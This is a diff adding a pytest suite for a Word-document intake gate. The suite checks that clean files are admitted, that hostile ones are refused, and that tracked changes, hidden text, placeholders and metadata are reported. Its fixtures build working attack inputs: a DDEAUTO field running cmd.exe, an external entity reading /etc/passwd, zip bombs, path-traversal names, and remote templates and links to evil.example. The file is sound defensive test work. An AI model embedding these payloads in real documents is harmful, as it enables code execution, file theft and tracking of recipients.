@@ -1,0 +1,440 @@
+"""The gate lets honest Word files in, keeps hostile ones out, and names what is left to settle."""
+
+from __future__ import annotations
+
+import io
+import re
+import time
+import zipfile
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+from docx import Document
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from casework.documents import wordml as word
+from casework.documents.gate import admit, inspect
+from casework.documents.gate.exchange import as_json
+from casework.documents.packing import Packed, deflated, pack, pack_parts, unpack
+from casework.documents.render import compile_template
+from casework.errors import RefusedInputError
+from models.shapes.word import LeftOverKind
+from tests.casework.documents.fields import STAMP, a_finished_response, a_response
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+TEMPLATES = Path(__file__).parents[3] / "templates" / "documents"
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+DOCUMENT_RELATIONS = "word/_rels/document.xml.rels"
+
+
+def _honest() -> bytes:
+    template = compile_template(TEMPLATES / "response-by-area" / "template.docx")
+    return template.render(a_finished_response(), STAMP)
+
+
+HONEST = _honest()
+
+
+def with_part(name: str, part: bytes) -> bytes:
+    return pack_parts({**unpack(HONEST), name: part})
+
+
+def replaced(name: str, old: str, new: str) -> bytes:
+    part = unpack(HONEST)[name].decode()
+    assert old in part
+    return with_part(name, part.replace(old, new, 1).encode())
+
+
+def in_body(xml: str) -> bytes:
+    return replaced(word.DOCUMENT_PART, "<w:sectPr>", f"{xml}<w:sectPr>")
+
+
+def said(text: str, look: str = "", paragraph: str = "") -> bytes:
+    return in_body(f"<w:p>{paragraph}<w:r><w:rPr>{look}</w:rPr><w:t>{text}</w:t></w:r></w:p>")
+
+
+def relation(kind: str, target: str, mode: str = "External") -> bytes:
+    return replaced(
+        DOCUMENT_RELATIONS,
+        "</Relationships>",
+        f'<Relationship Id="x1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+        "</Relationships>",
+    )
+
+
+def field(*pieces: str) -> bytes:
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    return in_body(
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+def raw_zip(*entries: tuple[str, bytes]) -> bytes:
+    """Return a package that may hold the same name twice."""
+    return pack((name, deflated(part)) for name, part in entries)
+
+
+def lying_bomb() -> bytes:
+    """Return a package whose part unpacks to 200 MB and declares 100 bytes."""
+    honest = deflated(b"\0" * (200 << 20), 9)
+    lying = Packed(honest.method, honest.crc, 100, honest.data)
+    parts = [(name, deflated(part)) for name, part in unpack(HONEST).items()]
+    return pack([*parts, ("word/media/image1.png", lying)])
+
+
+def many_paragraphs() -> bytes:
+    """Return a document that is no bomb, and far too long all the same."""
+    words = (
+        "".join(f"{n * 7919 % 99991:x}" for n in range(start, start + 9)) for start in range(25_000)
+    )
+    return in_body("".join(f"<w:p><w:r><w:t>{each}</w:t></w:r></w:p>" for each in words))
+
+
+NESTED_FIELD = (
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>"
+    '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+)
+DTD = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document '
+TYPES = "[Content_Types].xml"
+MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
+PLAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+
+DISGUISE = f'<Default Extension="bin" ContentType="{PLAIN_TYPE}"/></Types>'
+DISGUISED = f'<w:p xmlns:w="{word.W_NAMESPACE}"><w:fldSimple w:instr="DDE x y"/></w:p>'
+
+HOSTILE: dict[str, Callable[[], bytes]] = {
+    "nothing": lambda: b"",
+    "a web page": lambda: b"<!doctype html><title>403 Forbidden</title>",
+    "half a file": lambda: HONEST[: len(HONEST) // 2],
+    "an old .doc or a password": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
+    "a zip that is no document": lambda: raw_zip(("notes.txt", b"hello")),
+    "a spreadsheet": lambda: replaced(TYPES, "wordprocessingml.document", "spreadsheetml"),
+    "a template file": lambda: replaced(TYPES, "document.main+xml", "template.main+xml"),
+    "a file of more than 25 MB": lambda: HONEST + b"\0" * (25 << 20),
+    "a lying bomb": lying_bomb,
+    "an honest bomb": lambda: with_part("word/media/a.png", b"\0" * (30 << 20)),
+    "too many entries": lambda: pack_parts({f"word/{n}.txt": b"" for n in range(2_001)}),
+    "the same part twice": lambda: raw_zip(*unpack(HONEST).items(), ("WORD/document.xml", b"<a/>")),
+    "a name that climbs out": lambda: with_part("../../evil.xml", b"<a/>"),
+    "an absolute name": lambda: with_part("/etc/evil.xml", b"<a/>"),
+    "a Windows path": lambda: with_part("..\\evil.xml", b"<a/>"),
+    "a drive": lambda: with_part("C:evil.xml", b"<a/>"),
+    "an external entity": lambda: replaced(word.DOCUMENT_PART, "<w:document ", DTD),
+    "an entity bomb": lambda: with_part(
+        "word/styles.xml", b'<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><a>&b;</a>'
+    ),
+    "UTF-16": lambda: with_part("word/styles.xml", '<?xml version="1.0"?><a/>'.encode("utf-16")),
+    "UTF-16 without a mark": lambda: with_part("word/styles.xml", "<a/>".encode("utf-16-le")),
+    "UTF-7": lambda: with_part("word/styles.xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>'),
+    "too many paragraphs": many_paragraphs,
+    "too many tags": lambda: in_body("<w:p>" + "<w:r/>" * 1_600_000 + "</w:p>"),
+    "deep nesting": lambda: in_body("<w:ins>" * 40_000 + "</w:ins>" * 40_000),
+    "broken XML": lambda: replaced(word.DOCUMENT_PART, "<w:body>", "<w:body><w:p>"),
+    "a macro": lambda: with_part("word/vbaProject.bin", b"VBA"),
+    "a macro type": lambda: replaced(TYPES, PLAIN_TYPE, MACRO_TYPE),
+    "an embedded file": lambda: with_part("word/embeddings/sheet.xlsx", b"PK"),
+    "an ActiveX control": lambda: with_part("word/activeX/activeX1.xml", b"<a/>"),
+    "an altChunk": lambda: in_body('<w:altChunk r:id="rIdStyles"/>'),
+    "an altChunk relation": lambda: relation("aFChunk", "chunk.html", "Internal"),
+    "an OLE object": lambda: in_body("<w:p><w:r><w:object/></w:r></w:p>"),
+    "a remote template": lambda: relation("attachedTemplate", "https://evil.example/t.dotm"),
+    "a local template": lambda: relation("attachedTemplate", "file:///C:/t.dotx"),
+    "a remote picture": lambda: relation("image", "https://evil.example/p.png"),
+    "a remote frame": lambda: relation("frame", "https://evil.example/f.html"),
+    "a file link": lambda: relation("hyperlink", "file://server/share"),
+    "a script link": lambda: relation("hyperlink", "javascript:alert(1)"),
+    "a relation that climbs out": lambda: relation("image", "../../../etc/passwd", "Internal"),
+    "DDE": lambda: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
+    "DDE in pieces": lambda: field("D", "DEA", 'UTO cmd "/k"'),
+    "DDE in small letters": lambda: field(' ddeauto cmd "/k"'),
+    "a field made of fields": lambda: in_body(NESTED_FIELD),
+    "INCLUDETEXT": lambda: in_body('<w:fldSimple w:instr=" INCLUDETEXT &quot;C:/x&quot; "/>'),
+    "INCLUDEPICTURE": lambda: field('INCLUDEPICTURE "https://evil.example/p.png"'),
+    "MACROBUTTON": lambda: field("MACROBUTTON Evil click"),
+    "a script in a field": lambda: field('HYPERLINK "javascript:alert(1)"'),
+    "a macro in the header": lambda: replaced(
+        "word/header2.xml", "</w:hdr>", '<w:p><w:fldSimple w:instr="DDE x y"/></w:p></w:hdr>'
+    ),
+    "strict Open XML": lambda: replaced(
+        word.DOCUMENT_PART, word.W_NAMESPACE, "http://purl.oclc.org/ooxml/wordprocessingml/main"
+    ),
+    "active words under another name": lambda: pack_parts(
+        {
+            **unpack(replaced(TYPES, "</Types>", DISGUISE)),
+            "word/other.bin": DISGUISED.encode(),
+        }
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("build", HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_file_is_refused_in_one_plain_sentence(build: Callable[[], bytes]) -> None:
+    data = build()
+    started = time.perf_counter()
+    report = inspect(data)
+    assert time.perf_counter() - started < 2
+    assert not report.accepted
+    message = report.blocked[0].message
+    assert message.endswith(".")
+    assert "Traceback" not in message
+    with pytest.raises(RefusedInputError, match=re.escape(message)):
+        admit(data)
+
+
+@pytest.mark.parametrize(
+    ("name", "what"),
+    [
+        ("an old .doc or a password", "old or encrypted file"),
+        ("a lying bomb", "not a Word file"),
+        ("an honest bomb", "zip bomb"),
+        ("the same part twice", "duplicate part"),
+        ("an external entity", "document type declaration"),
+        ("UTF-16", "unusual encoding"),
+        ("too many paragraphs", "too many paragraphs"),
+        ("deep nesting", "damaged part"),
+        ("a macro", "macro"),
+        ("a macro type", "macro"),
+        ("a remote template", "remote template"),
+        ("DDE in pieces", "active field"),
+        ("a script link", "unsafe link"),
+        ("strict Open XML", "strict Open XML"),
+    ],
+)
+def test_the_reason_is_named_rightly(name: str, what: str) -> None:
+    assert inspect(HOSTILE[name]()).blocked[0].what == what
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.data())
+def test_a_damaged_file_never_raises(data: st.DataObject) -> None:
+    damaged = bytearray(HONEST)
+    for _ in range(data.draw(st.integers(1, 20))):
+        place = data.draw(st.integers(0, len(damaged) - 1))
+        damaged[place] = data.draw(st.integers(0, 255))
+    report = inspect(bytes(damaged))
+    assert report.accepted or report.blocked
+
+
+@pytest.mark.parametrize(
+    "build",
+    [
+        lambda: HONEST,
+        lambda: relation("hyperlink", "https://www.example.org/?a=1&amp;b=2"),
+        lambda: relation("hyperlink", "mailto:office@example.org"),
+        lambda: field('HYPERLINK "https://www.example.org/"'),
+        lambda: field(' HYPERLINK \\l "here" '),
+        lambda: field(" TOC \\o 1-3 "),
+        lambda: with_part("customXml/item1.xml", b"<label/>"),
+        lambda: with_part("word/media/image1.png", b"\x89PNG"),
+    ],
+)
+def test_what_reviewers_rightly_do_is_let_in(build: Callable[[], bytes]) -> None:
+    assert inspect(build()).blocked == ()
+
+
+def test_a_file_made_by_another_program_is_let_in() -> None:
+    document = Document()
+    document.add_heading("A response")
+    document.add_paragraph("R&D <b>")
+    saved = io.BytesIO()
+    document.save(saved)
+    assert admit(saved.getvalue()).accepted
+
+
+def test_a_zip_with_folders_in_it_is_let_in() -> None:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as package:
+        package.mkdir("word")
+        for name, part in unpack(HONEST).items():
+            package.writestr(name, part)
+    assert inspect(out.getvalue()).accepted
+
+
+def kinds(data: bytes) -> list[tuple[LeftOverKind, str, str]]:
+    report = inspect(data)
+    assert report.accepted
+    return [(left.kind, left.author, left.where) for left in report.left_overs]
+
+
+INSERTED = '<w:ins w:id="1" w:author="Ann Bright" w:date="2022-11-20T10:00:00Z">'
+DELETED = '<w:del w:id="2" w:author="Ben Cole" w:date="2022-11-20T10:00:00Z">'
+
+
+def test_tracked_changes_are_named_by_author() -> None:
+    data = in_body(
+        f"<w:p>{INSERTED}<w:r><w:t>new words</w:t></w:r></w:ins>"
+        f"{DELETED}<w:r><w:delText>old words</w:delText></w:r></w:del></w:p>"
+    )
+    assert kinds(data) == [
+        (LeftOverKind.TRACKED_CHANGE, "Ann Bright", "new words"),
+        (LeftOverKind.TRACKED_CHANGE, "Ben Cole", "old words"),
+    ]
+
+
+def test_a_tracked_change_of_format_or_of_a_paragraph_mark_counts() -> None:
+    format_change = '<w:rPrChange w:id="3" w:author="Ann Bright"><w:rPr/></w:rPrChange>'
+    assert kinds(said("bolder", f"<w:b/>{format_change}")) == [
+        (LeftOverKind.TRACKED_CHANGE, "Ann Bright", "bolder")
+    ]
+    mark = '<w:pPr><w:rPr><w:ins w:id="4" w:author="Ben Cole"/></w:rPr></w:pPr>'
+    assert kinds(said("whole", "", mark)) == [(LeftOverKind.TRACKED_CHANGE, "Ben Cole", "whole")]
+
+
+def test_a_change_in_a_header_counts() -> None:
+    change = f"<w:p>{INSERTED}<w:r><w:t>top</w:t></w:r></w:ins></w:p></w:hdr>"
+    assert kinds(replaced("word/header2.xml", "</w:hdr>", change)) == [
+        (LeftOverKind.TRACKED_CHANGE, "Ann Bright", "top")
+    ]
+
+
+def test_open_comments_count_and_resolved_ones_do_not() -> None:
+    w14 = "http://schemas.microsoft.com/office/word/2010/wordml"
+    w15 = "http://schemas.microsoft.com/office/word/2012/wordml"
+    comments = "".join(
+        f'<w:comment w:id="{n}" w:author="{author}"><w:p w14:paraId="0000000{n}">'
+        f"<w:r><w:t>{text}</w:t></w:r></w:p></w:comment>"
+        for n, author, text in [
+            (1, "Ann", "Is this right?"),
+            (2, "Ben", "Done"),
+            (3, "Cy", "Reply"),
+        ]
+    )
+    parts = {
+        **unpack(HONEST),
+        "word/comments.xml": (
+            f'<w:comments xmlns:w="{word.W_NAMESPACE}" xmlns:w14="{w14}">{comments}</w:comments>'
+        ).encode(),
+        "word/commentsExtended.xml": (
+            f'<w15:commentsEx xmlns:w15="{w15}"><w15:commentEx w15:paraId="00000002" w15:done="1"/>'
+            '<w15:commentEx w15:paraId="00000003" w15:paraIdParent="00000001" w15:done="0"/>'
+            "</w15:commentsEx>"
+        ).encode(),
+    }
+    assert kinds(pack_parts(parts)) == [(LeftOverKind.COMMENT, "Ann", "Is this right?")]
+
+
+@pytest.mark.parametrize(
+    "look",
+    [
+        "<w:vanish/>",
+        '<w:vanish w:val="1"/>',
+        '<w:color w:val="FFFFFF"/>',
+        '<w:color w:val="FEFEFE"/>',
+        '<w:color w:val="auto" w:themeColor="background1"/>',
+        '<w:sz w:val="2"/>',
+    ],
+)
+def test_words_nobody_sees_are_found(look: str) -> None:
+    assert kinds(said("secret", look)) == [(LeftOverKind.HIDDEN_TEXT, "", "secret")]
+
+
+def test_words_hidden_by_a_style_are_found() -> None:
+    style = (
+        '<w:style w:type="character" w:styleId="Sly"><w:name w:val="Sly"/>'
+        "<w:rPr><w:vanish/></w:rPr>"
+        '</w:style><w:style w:type="character" w:styleId="Heir"><w:name w:val="Heir"/>'
+        '<w:basedOn w:val="Sly"/></w:style></w:styles>'
+    )
+    parts = unpack(said("secret", '<w:rStyle w:val="Heir"/>'))
+    parts["word/styles.xml"] = parts["word/styles.xml"].replace(b"</w:styles>", style.encode())
+    assert kinds(pack_parts(parts)) == [(LeftOverKind.HIDDEN_TEXT, "", "secret")]
+
+
+@pytest.mark.parametrize(
+    "look",
+    [
+        '<w:vanish w:val="0"/>',
+        '<w:color w:val="1B365D"/>',
+        '<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="1B365D"/>',
+        '<w:sz w:val="16"/>',
+    ],
+)
+def test_words_that_can_be_read_are_not_called_hidden(look: str) -> None:
+    assert kinds(said("plain to see", look)) == []
+
+
+@pytest.mark.parametrize(
+    "gap",
+    [
+        "[To be written]", "[TBC]", "the date is TBC", "by XX January", "on xx January",
+        "{{ field }}",
+        "{% endif %}", "???", "[insert date]", "[name of board]", "Not yet confirmed by the office",
+        "[…]", "________", "[Awaited]", "the date (to be confirmed)",
+    ],
+)  # fmt: skip
+def test_gaps_are_found(gap: str) -> None:
+    found = kinds(said(f"Before {gap} after"))
+    assert {kind for kind, _, _ in found} == {LeftOverKind.PLACEHOLDER}
+    assert gap.split(maxsplit=1)[0] in found[0][2]
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "He said [sic] so.", "The XL Bully and the XXth century", "Really?", "[2019] EWHC 1",
+        "Part II (a) [the force]", "a {single} brace", "not confirmed", "Exxon",
+    ],
+)  # fmt: skip
+def test_ordinary_words_are_no_gaps(words: str) -> None:
+    assert kinds(said(words)) == []
+
+
+def test_a_gap_in_several_runs_is_found() -> None:
+    runs = "".join(f"<w:r><w:t>{piece}</w:t></w:r>" for piece in ("[To ", "be ", "written]"))
+    assert kinds(in_body(f"<w:p>{runs}</w:p>"))[0][0] is LeftOverKind.PLACEHOLDER
+
+
+def test_highlighted_words_count_as_gaps() -> None:
+    found = kinds(said("check this", '<w:highlight w:val="yellow"/>'))
+    assert found == [(LeftOverKind.PLACEHOLDER, "", "check this")]
+    assert kinds(said("fine", '<w:highlight w:val="none"/>')) == []
+
+
+def test_traces_of_people_are_named() -> None:
+    core = "<cp:lastModifiedBy>Ann Bright</cp:lastModifiedBy></cp:coreProperties>"
+    data = replaced("docProps/core.xml", "</cp:coreProperties>", core)
+    assert kinds(data) == [
+        (LeftOverKind.METADATA, "Ann Bright", "docProps/core.xml: lastModifiedBy")
+    ]
+
+
+def test_the_exchange_format_is_the_documented_one() -> None:
+    refused = as_json(inspect(HOSTILE["a remote template"]()))
+    assert refused == {
+        "accepted": False,
+        "blocked": [
+            {
+                "what": "remote template",
+                "where": DOCUMENT_RELATIONS,
+                "message": refused["blocked"][0]["message"],
+            }
+        ],
+        "findings": [],
+    }
+    found = as_json(inspect(said("secret", "<w:vanish/>")))
+    assert found == {
+        "accepted": True,
+        "blocked": [],
+        "findings": [{"kind": "hidden_text", "author": "", "where": "secret"}],
+    }
+
+
+def test_a_long_draft_is_judged_fast() -> None:
+    template = compile_template(TEMPLATES / "response-by-area" / "template.docx")
+    draft = a_response()
+    long = template.render(a_response(groups=draft.groups + draft.groups[:4]), STAMP)
+    best = min(_seconds(long) for _ in range(5))
+    assert best < 0.06  # 15 ms on a quiet machine; room for a busy one
+
+
+def _seconds(data: bytes) -> float:
+    started = time.perf_counter()
+    inspect(data)
+    return time.perf_counter() - started
